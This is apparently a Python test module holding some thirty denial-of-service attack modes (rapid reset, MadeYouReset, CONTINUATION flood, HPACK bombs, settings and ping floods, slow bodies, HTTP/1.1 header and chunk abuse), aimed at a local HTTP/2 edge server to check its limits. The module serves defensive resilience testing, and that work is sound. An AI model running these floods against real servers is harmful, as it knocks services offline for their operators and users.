"""The attacks, one function a mode. Each gets an Attacker and works for about `attacker.seconds`; what it returns is a list
of (holds, text): claims about what the attacker itself saw. The good client beside it, the processes and their memory are
judged by battery.py.

Sources: promises X2 to X5, X8, X10; RFC 9113 (frames), RFC 9112 (framing of HTTP/1.1), RFC 7541 (HPACK). Names follow the
published attacks: rapid reset CVE-2023-44487, MadeYouReset CVE-2025-8671, CONTINUATION flood VU#421644.
"""
import contextlib
import os
import socket
import ssl
import struct
import time

import h2

SETTINGS_INITIAL_WINDOW, SETTINGS_HEADER_TABLE = 4, 1


class Attacker:
    """Where to aim, from which loopback address, for how long, and what stands there."""

    def __init__(self, edge, server, source, seconds, key):
        self.edge, self.server, self.source, self.seconds, self.key = edge, server, source, seconds, key
        self.end = time.monotonic() + seconds
        self.answered = 0

    def going(self):
        return time.monotonic() < self.end

    def connect(self, first=(), silent=False, timeout=5):
        """An HTTP/2 connection, or None when the edge refuses one."""
        try:
            tls = self.edge.tls(("h2",), self.source, timeout)
            return h2.Connection(tls, first, silent)
        except (OSError, h2.Gone):
            time.sleep(0.05)
            return None

    def authorization(self):
        return [("authorization", "Bearer " + self.key)]

    def flood(self, write, first=(), read=False):
        """Connects again and again and sends what write(connection, n) gives, in large pieces."""
        count = 0
        while self.going():
            connection = self.connect(first)
            if connection is None:
                continue
            with contextlib.suppress(h2.Gone):
                n = 0
                while self.going():
                    connection.send(write(connection, n))
                    n += 1
                    count += 1
                    if read:
                        connection.drain(0.001)
            connection.close()
        return count


def streams(connection, count):
    first = connection.next_stream
    connection.next_stream += 2 * count
    return range(first, first + 2 * count, 2)


# --- resets -------------------------------------------------------------------------------------------------------------
def rapid_reset(a):
    """Requests opened and cancelled at once, on a page that costs nothing."""
    a.flood(lambda c, n: b"".join(h2.request(s) + h2.rst(s) for s in streams(c, 100)))
    return []


def rapid_reset_database(a):
    """The same on the dearest call: work already started must stay bounded (X10)."""
    a.flood(lambda c, n: b"".join(h2.request(s, "/v1/tracking/RESET%d" % s, extra=a.authorization()) + h2.rst(s)
                                  for s in streams(c, 50)))
    return []


def made_you_reset_zero(a):
    """A window update of zero makes the server reset the stream."""
    a.flood(lambda c, n: b"".join(h2.request(s, "/v1/tracking/MADE%d" % s, extra=a.authorization()) + h2.window(s, 0)
                                  for s in streams(c, 50)))
    return []


def made_you_reset_overflow(a):
    """A window beyond 2^31-1."""
    a.flood(lambda c, n: b"".join(h2.request(s, "/v1/tracking/OVER%d" % s, extra=a.authorization()) +
                                  h2.window(s, 0x7FFFFFFF) + h2.window(s, 0x7FFFFFFF) for s in streams(c, 50)))
    return []


def made_you_reset_data(a):
    """DATA after END_STREAM."""
    a.flood(lambda c, n: b"".join(h2.request(s, "/v1/tracking/DATA%d" % s, extra=a.authorization()) +
                                  h2.frame(h2.DATA, h2.END_STREAM, s, b"x") for s in streams(c, 50)))
    return []


def made_you_reset_priority(a):
    """A stream that depends on itself; HEADERS after the end."""
    def write(c, n):
        return b"".join(h2.request(s) + h2.frame(h2.PRIORITY, 0, s, struct.pack(">IB", s, 1)) + h2.request(s) for s in streams(c, 50))
    a.flood(write)
    return []


def reset_before_answer(a):
    """One request, wait a moment, cancel: the cancel falls into every phase of the work."""
    def write(c, n):
        time.sleep((n % 20) / 4000)
        s = streams(c, 2)
        return h2.request(s[0], "/v1/tracking/LATE%d" % n, extra=a.authorization()) + (h2.rst(s[0] - 4) if n else b"")
    a.flood(write, read=True)
    return []


# --- control frames -----------------------------------------------------------------------------------------------------
def settings_flood(a):
    a.flood(lambda c, n: h2.settings((SETTINGS_INITIAL_WINDOW, 65535 + n % 2)) * 500)
    return []


def settings_large(a):
    """2,700 entries a frame."""
    entries = [(SETTINGS_INITIAL_WINDOW, 65535 - i % 7) for i in range(2700)]
    a.flood(lambda c, n: h2.settings(*entries) * 4)
    return []


def flush_settings(a):
    """Requests with a closed window, then windows moved by SETTINGS under the answers (aborts libh2o 2.2.5)."""
    def write(c, n):
        if n % 3 == 0:
            return b"".join(h2.request(s, "/openapi.json") for s in streams(c, 31))
        return h2.settings((SETTINGS_INITIAL_WINDOW, 0 if n % 3 == 1 else 65535))
    a.flood(write, first=[(SETTINGS_INITIAL_WINDOW, 1)], read=True)
    return []


def flush_window(a):
    """The same by window updates, stream and connection."""
    def write(c, n):
        open_now = streams(c, 31)
        return b"".join(h2.request(s, "/openapi.json") for s in open_now) + b"".join(h2.window(s, 1) for s in open_now) + \
            h2.window(0, 1) + b"".join(h2.window(s, 65535) for s in open_now) + h2.settings((SETTINGS_INITIAL_WINDOW, 7))
    a.flood(write, first=[(SETTINGS_INITIAL_WINDOW, 0)], read=True)
    return []


def ping_flood(a):
    a.flood(lambda c, n: h2.frame(h2.PING, 0, 0, b"12345678") * 2000)
    return []


def priority_flood(a):
    a.flood(lambda c, n: b"".join(h2.frame(h2.PRIORITY, 0, s, struct.pack(">IB", 0, s & 255)) for s in streams(c, 500)))
    return []


def window_flood(a):
    a.flood(lambda c, n: h2.window(0, 1) * 2000)
    return []


def empty_data_flood(a):
    def write(c, n):
        if n == 0:
            return h2.request(streams(c, 1)[0], "/v1/tracking/events", "POST", a.authorization(), end=False)
        return h2.frame(h2.DATA, 0, c.next_stream - 2) * 2000
    a.flood(write)
    return []


def unknown_frames(a):
    """Types nobody knows must be ignored, and not be written to a log line each."""
    before = os.path.getsize(a.server.log_path) if a.server else 0
    a.flood(lambda c, n: h2.frame(0x42 + n % 100, 0xFF, 0, b"") * 2000)
    grown = (os.path.getsize(a.server.log_path) if a.server else 0) - before
    return [(grown < 2_000_000, "the log grows by less than 2 MB (%d bytes)" % grown)]


# --- head bombs ---------------------------------------------------------------------------------------------------------
def continuation_flood(a):
    """A head that never ends, 16 kB a piece."""
    def write(c, n):
        if n == 0:
            return h2.frame(h2.HEADERS, 0, streams(c, 1)[0], h2.request_block())
        return h2.frame(h2.CONTINUATION, 0, c.next_stream - 2, h2.field("x-%d" % n, "a" * 16000))
    a.flood(write)
    return []


def continuation_empty(a):
    def write(c, n):
        if n == 0:
            return h2.frame(h2.HEADERS, 0, streams(c, 1)[0], h2.request_block())
        return h2.frame(h2.CONTINUATION, 0, c.next_stream - 2) * 1000
    a.flood(write)
    return []


def hpack_bomb(a):
    """One field of 4,000 bytes in the dynamic table, referred to again and again: 1 byte in, 4,000 out."""
    def write(c, n):
        s = streams(c, 1)[0]
        if n == 0:
            return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, s, h2.request_block() + h2.field("x", "b" * 4000, True))
        return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, s, h2.request_block() + b"\xbe" * 15000)
    a.flood(write)
    return []


def hpack_bomb_held(a):
    """The same with a closed window, so that every answer and its request stay."""
    def write(c, n):
        s = streams(c, 1)[0]
        block = h2.request_block("/openapi.json") + (h2.field("x", "b" * 4000, True) if n == 0 else b"\xbe" * 3)
        return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, s, block)
    a.flood(write, first=[(SETTINGS_INITIAL_WINDOW, 0)], read=True)
    return []


def hpack_table_size(a):
    """Size updates up and down, and a table larger than was offered."""
    def write(c, n):
        s = streams(c, 1)[0]
        block = b"".join(h2.integer(v, 5, 0x20) for v in (0, 4096)) * 200 + h2.request_block()
        return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, s, block) + \
            h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, s + 2, h2.integer(1 << 28, 5, 0x20) + h2.request_block())
    a.flood(write)
    return []


def many_fields(a):
    """Thousands of tiny fields in one head."""
    block = h2.request_block() + h2.field("a", "") * 3500
    a.flood(lambda c, n: h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, streams(c, 1)[0], block))
    return []


# --- connections --------------------------------------------------------------------------------------------------------
def connection_flood(a):
    """More connections than a source may hold."""
    held = []
    while a.going() and len(held) < 400:
        try:
            held.append(socket.create_connection(("127.0.0.1", a.edge.port), 2, (a.source, 0)))
        except OSError:
            time.sleep(0.01)
    time.sleep(0.5)
    open_now = 0
    for sock in held:
        sock.setblocking(False)
        try:
            open_now += sock.recv(1) != b""
        except BlockingIOError:
            open_now += 1
        except OSError:
            pass
        sock.close()
    return [(open_now <= 51, "of %d connections %d stay, the limit is 50" % (len(held), open_now))]


def tls_garbage(a):
    """Bytes that are no TLS, hellos that stop half-way, handshakes left."""
    context = ssl.create_default_context()
    hello = ssl.MemoryBIO(), ssl.MemoryBIO()
    half = context.wrap_bio(*hello, server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        half.do_handshake()
    record = hello[1].read()
    pieces = [os.urandom(400), record[:7], record[:100], record, record + os.urandom(64), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b""]
    n = 0
    while a.going():
        with contextlib.suppress(OSError):
            with socket.create_connection(("127.0.0.1", a.edge.port), 2, (a.source, 0)) as sock:
                sock.sendall(pieces[n % len(pieces)])
        n += 1
        time.sleep(0.02)
    return []


def request_flood(a):
    """Honest requests, far over the rate of a source: 429 with Retry-After, then cut."""
    statuses, connection = {}, None
    while a.going():
        connection = connection or a.connect()
        if connection is None:
            continue
        try:
            several = set(streams(connection, 10))
            connection.send(b"".join(h2.request(s, "/healthz") for s in sorted(several)))
            while several:
                kind, flags, on, payload = connection.read_frame(2)
                connection.mind(kind, flags, payload)
                if kind == h2.HEADERS:
                    status = h2.status_of(payload)
                    statuses[status] = statuses.get(status, 0) + 1
                if kind == h2.RST_STREAM or (kind in (h2.HEADERS, h2.DATA) and flags & h2.END_STREAM):
                    several.discard(on)
        except h2.Gone:
            connection.close()
            connection = None
    if connection:
        connection.close()
    return [(set(statuses) <= {200, 429}, "answers are 200 and 429 only: %s" % statuses),
            (statuses.get(429, 0) > 0, "above the rate 429 is answered")]


# --- bodies -------------------------------------------------------------------------------------------------------------
def unfinished_bodies(a):
    """Bodies of nearly 1 MiB that never end, as many as the edge takes."""
    held, piece = [], b"[" + b" " * 16383
    while a.going() and len(held) < 12:
        c = a.connect()
        if c is None:
            continue
        held.append(c)
        with contextlib.suppress(h2.Gone):
            for s in streams(c, 30):
                c.send(h2.request(s, "/v1/tracking/events", "POST", a.authorization() + [("content-length", "1048576"), ("content-type", "application/json")], end=False))
                c.send(h2.frame(h2.DATA, 0, s, piece))
            c.drain(0.05)
            for _ in range(20):
                c.send(b"".join(h2.frame(h2.DATA, 0, s, piece[:1000]) for s in range(1, 60, 2)))
                c.drain(0.01)
    while a.going():
        time.sleep(0.05)
    for c in held:
        c.close()
    return []


def deep_json(a):
    """A megabyte of open brackets: refused by the reader's depth, without a stall."""
    statuses = set()
    while a.going():
        c = a.connect()
        if c is None:
            continue
        with contextlib.suppress(h2.Gone):
            statuses.add(post_large(c, b"[" * 1_000_000, a.authorization()))
            statuses.add(post_large(c, b"[" + b"[]," * 340_000 + b"[]]", a.authorization()))
        c.close()
        time.sleep(0.2)
    return [(statuses <= {400, 413, 422, 429, 503}, "answers are refusals: %s" % statuses)]


def post_large(c, body, extra):
    """Posts a body larger than the window, minding window updates; gives the status."""
    s = streams(c, 1)[0]
    c.send(h2.request(s, "/v1/tracking/events", "POST", list(extra) + [("content-type", "application/json"), ("content-length", str(len(body)))], end=False))
    windows, at, status, end = {0: 65535, s: 65535}, 0, None, time.monotonic() + 10
    while time.monotonic() < end:
        while at < len(body) and min(windows[0], windows[s]) > 0:
            piece = body[at:at + min(16384, windows[0], windows[s])]
            at += len(piece)
            windows[0] -= len(piece)
            windows[s] -= len(piece)
            c.send(h2.frame(h2.DATA, h2.END_STREAM if at == len(body) else 0, s, piece))
        kind, flags, on, payload = c.read_frame(max(0.01, end - time.monotonic()))
        c.mind(kind, flags, payload)
        if kind == h2.WINDOW_UPDATE and on in windows:
            windows[on] += struct.unpack(">I", payload)[0]
        elif kind == h2.HEADERS and on == s:
            status = h2.status_of(payload)
        if on == s and (kind == h2.RST_STREAM or (kind in (h2.HEADERS, h2.DATA) and flags & h2.END_STREAM)):
            return status
    raise h2.Gone("no answer")


# --- HTTP/1.1 -----------------------------------------------------------------------------------------------------------
def h1_endless_header(a):
    while a.going():
        with contextlib.suppress(OSError):
            with a.edge.tls(source=a.source, timeout=3) as tls:
                tls.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                for n in range(200):
                    tls.sendall(b"x-%d: " % n + b"a" * 8000 + b"\r\n")
        time.sleep(0.02)
    return []


def h1_chunks(a):
    """Chunks of one byte with long extensions."""
    while a.going():
        with contextlib.suppress(OSError):
            with a.edge.tls(source=a.source, timeout=3) as tls:
                tls.sendall(b"POST /v1/tracking/events HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n")
                for _ in range(50):
                    tls.sendall((b"1;" + b"e" * 200 + b"\r\n[\r\n") * 50)
                tls.sendall(b"0\r\n\r\n")
                tls.recv(1000)
        time.sleep(0.02)
    return []


def h1_pipelined(a):
    """Hundreds of requests in one write, then gone."""
    while a.going():
        with contextlib.suppress(OSError):
            with a.edge.tls(source=a.source, timeout=3) as tls:
                tls.sendall(b"GET /v1/tracking/PIPE1 HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + a.key.encode() + b"\r\n\r\n" * 1)
                tls.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * 300)
        time.sleep(0.05)
    return []


def h1_leave(a):
    """Asks the database and leaves before the answer (the server cannot see it on HTTP/1.1: M5)."""
    while a.going():
        with contextlib.suppress(OSError):
            with a.edge.tls(source=a.source, timeout=3) as tls:
                tls.sendall(b"GET /v1/tracking/LEAVE HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer " + a.key.encode() + b"\r\n\r\n")
        time.sleep(0.002)
    return []


MODES = [rapid_reset, rapid_reset_database, made_you_reset_zero, made_you_reset_overflow, made_you_reset_data,
         made_you_reset_priority, reset_before_answer, settings_flood, settings_large, flush_settings, flush_window, ping_flood,
         priority_flood, window_flood, empty_data_flood, unknown_frames, continuation_flood, continuation_empty, hpack_bomb,
         hpack_bomb_held, hpack_table_size, many_fields, connection_flood, tls_garbage, request_flood, unfinished_bodies,
         deep_json, h1_endless_header, h1_chunks, h1_pipelined, h1_leave]
